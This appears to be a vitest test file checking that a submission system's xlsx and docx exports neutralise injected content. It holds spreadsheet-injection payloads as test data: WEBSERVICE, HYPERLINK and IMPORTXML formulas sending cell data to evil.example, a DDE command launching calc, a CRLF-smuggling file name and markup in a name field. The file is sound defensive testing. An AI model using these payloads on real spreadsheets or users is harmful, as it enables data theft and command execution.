/** What strangers write comes out of every export as text: no formula of theirs that runs, fetches or sends. */
import { beforeAll, describe, expect, test } from "vitest";
import type { Receipt } from "../../shared/contract/submission.ts";
import { mustOk } from "../../shared/kernel/result.ts";
import type { FlatWorkbook } from "../../shared/kernel/flat.ts";
import { readXlsx } from "../../shared/workbook/xlsx/index.ts";
import { openZip, readPart } from "../../shared/workbook/xlsx/zip.ts";
import { PERSON_OF, act, call, goodWorkbook, order, seedAll, send, tokenOf } from "../test-kit.ts";

beforeAll(seedAll);

/** Texts that a spreadsheet would read as formulas if they were typed into it. */
const TEXTS = [
  "=1+1",
  "+84 912",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
];

/** Formulas that must not leave the house, with the value their sender claims. */
const FORMULAS = [
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
  "=cmd|'/c calc'!A0",
  "='[gia.xlsx]Sheet1'!A1",
  '=IMPORTXML("http://evil.example","//a")',
];

function hostile(): FlatWorkbook {
  const base = goodWorkbook("Quảng Ninh", `=HYPERLINK("http://evil.example","Đề án")`);
  const cells = Object.fromEntries([
    ...TEXTS.map((value, index) => [`A${index + 1}`, { value }]),
    ...FORMULAS.map((formula, index) => [`B${index + 1}`, { value: `kết quả ${index}`, formula }]),
    ["C1", { value: 3, formula: "=1+2" }],
  ]) as FlatWorkbook["sheets"][number]["cells"];
  return { ...base, sheets: [...base.sheets, { name: "Ghi chú riêng", cells }] };
}

async function file(id: string, kind: string): Promise<Uint8Array> {
  const answer = await call(`/api/v1/submissions/${id}/papers/${kind}`, {
    token: await tokenOf(PERSON_OF.ministry),
  });
  expect(answer.status, kind).toBe(200);
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; /);
  return new Uint8Array(await answer.arrayBuffer());
}

describe("exports of a hostile submission", () => {
  let id = "";
  beforeAll(async () => {
    const sent = await send(await tokenOf(PERSON_OF.drafter), {
      workbook: hostile(),
      fileName: '=1+1".xlsx\r\nx: y',
    });
    if (sent.status !== 201) throw new Error(await sent.text());
    id = ((await sent.json()) as Receipt).id;
    await act(id, PERSON_OF.province, "forward", '"v1"');
    await act(id, "tham-dinh-2", "receive", '"v2"');
    await act(id, PERSON_OF.ministry, "accept", '"v3"');
    const made = await order(id, PERSON_OF.ministry, '"v4"', { ordererName: "=1+1 <w:p/>" });
    if (made.status !== 201) throw new Error(await made.text());
  });

  test("the workbook: hostile formulas become their values, honest ones stay, texts stay texts", async () => {
    const book = mustOk(await readXlsx(await file(id, "so-lam-viec.xlsx")));
    const own = book.sheets.find(({ name }) => name === "Ghi chú riêng")?.cells ?? {};
    TEXTS.forEach((value, index) => expect(own[`A${index + 1}`]).toEqual({ value }));
    FORMULAS.forEach((_, index) => expect(own[`B${index + 1}`]).toEqual({ value: `kết quả ${index}` }));
    expect(own["C1"]).toEqual({ value: 3, formula: "=1+2" });
  });

  test("the appendix of the order: only our own sums are formulas", async () => {
    const book = mustOk(await readXlsx(await file(id, "phu-luc.xlsx")));
    const cells = book.sheets.flatMap((sheet) => Object.values(sheet.cells));
    const formulas = cells.flatMap(({ formula }) => (formula === undefined ? [] : [formula]));
    expect(formulas.length).toBeGreaterThan(0);
    for (const formula of formulas) expect(formula).toMatch(/^=(SUM\(|[A-Z]+\d+(\+[A-Z]+\d+)*$)/);
    expect(cells.some(({ value }) => String(value).startsWith("=HYPERLINK("))).toBe(true);
  });

  test("the decision: markup in names is text, and no field fetches anything", async () => {
    const zip = mustOk(openZip(await file(id, "quyet-dinh.docx")));
    const xml = new TextDecoder().decode(mustOk(readPart(zip, "word/document.xml")) ?? new Uint8Array());
    expect(xml).toContain("=1+1 &lt;w:p/&gt;");
    expect(xml).not.toMatch(/<w:(instrText|hyperlink|altChunk)/);
  });
});
